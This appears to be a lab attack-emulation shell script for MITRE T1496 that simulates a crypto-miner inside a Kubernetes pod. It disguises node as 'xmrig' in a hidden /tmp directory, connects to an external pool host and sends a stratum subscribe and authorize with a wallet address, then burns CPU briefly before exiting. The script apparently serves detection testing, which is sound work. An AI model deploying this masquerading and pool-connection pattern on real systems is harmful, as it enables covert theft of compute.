#!/bin/sh
# Lab attack scenario: crypto-miner (T1496). Runs inside a lab pod via pods/exec (sh -s, script on stdin).
D=/tmp/.lab-m-$$
mkdir -p $D
ln -sf "$(command -v node)" $D/xmrig
$D/xmrig -e '
const s = require("net").connect(3333, process.env.LAB_EXTERNAL_IP, () => {
  s.write(JSON.stringify({ id: 1, method: "mining.subscribe", params: ["xmrig/6.21.0"] }) + "\n");
  s.write(JSON.stringify({ id: 2, method: "mining.authorize", params: ["44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A", "x"] }) + "\n");
});
s.once("data", (d) => {
  console.log("pool:", String(d).trim().slice(0, 80));
  const end = Date.now() + 4000;
  let x = 0;
  while (Date.now() < end) x += Math.sqrt(Math.random());
  s.destroy();
  process.exit(0);
});
s.on("error", (e) => { console.log("pool error", e.message); process.exit(1); });
'
rm -rf $D
